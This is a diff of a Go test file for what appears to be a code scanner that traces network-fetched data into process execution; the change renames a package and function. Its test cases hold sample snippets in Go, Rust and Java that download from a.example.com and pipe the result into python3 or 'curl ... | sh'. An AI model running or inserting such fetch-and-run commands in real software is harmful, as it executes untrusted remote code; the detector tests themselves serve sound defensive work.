@@ -1,10 +1,10 @@
-package chain_test
+package loose_test
 
 import (
 	"slices"
 	"testing"
 
-	"github.com/skillctl/skillctl/engine/flow/chain"
+	"github.com/skillctl/skillctl/engine/flow/loose"
 	"github.com/skillctl/skillctl/engine/flow/way"
 )
 
@@ -24,7 +24,7 @@ func TestFed(t *testing.T) {
 		"a script that reads it": {"go", "r, _ := http.Get(\"https://a.example.com/x\")\nc := exec.Command(\"python3\", \"a.py\")\nc.Stdin = r.Body\nc.Run()\n", false},
 		"a text of its own":      {"go", "c := exec.Command(\"sh\")\nc.Stdin = strings.NewReader(\"ls\")\nc.Run()\n", false},
 	} {
-		found := chain.Loose(way.Text{File: "a", Source: []byte(c.source), Language: c.language}, nil)
+		found := loose.Follow(way.Text{File: "a", Source: []byte(c.source), Language: c.language}, nil)
 		got := slices.ContainsFunc(found.Chains, func(one way.Chain) bool { return one.Sink.Kind == "run" && one.Sink.Channel == "stdin" })
 		if got != c.want {
 			t.Errorf("%s: is run: %v, want %v: %+v", name, got, c.want, found.Chains)
@@ -41,7 +41,7 @@ func TestFormed(t *testing.T) {
 		"rust": "let h = \"a.example.com\";\nlet s = format!(\"curl https://{}/x | sh\", h);\nCommand::new(\"sh\").arg(\"-c\").arg(&s).spawn();\n",
 		"java": "String h = \"a.example.com\";\nString s = String.format(\"curl https://%1$s/x | sh\", h);\nnew ProcessBuilder(\"sh\", \"-c\", s).start();\n",
 	} {
-		found := chain.Loose(way.Text{File: "a", Source: []byte(source), Language: language}, nil)
+		found := loose.Follow(way.Text{File: "a", Source: []byte(source), Language: language}, nil)
 		if !slices.ContainsFunc(found.Runs, func(r way.Run) bool { return r.Text == want }) {
 			t.Errorf("%s: runs %+v, want %q", language, found.Runs, want)
 		}
